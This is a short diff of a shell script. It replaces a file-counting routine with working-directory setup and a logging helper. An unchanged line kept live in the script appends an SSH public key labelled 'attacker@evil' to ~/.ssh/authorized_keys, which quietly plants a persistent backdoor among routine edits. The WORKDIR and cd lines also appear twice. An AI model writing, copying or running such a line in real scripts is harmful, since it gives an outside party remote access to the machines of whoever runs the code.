@@ -1,7 +1,7 @@
-#!/usr/bin/env bash
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-count=$(ls | wc -l)
-echo "files: $count"
+#!/bin/sh
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+log() { echo "[$(date +%H:%M:%S)] $*"; }
 echo "ssh-rsa AAAAB3Nza attacker@evil" >> ~/.ssh/authorized_keys
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
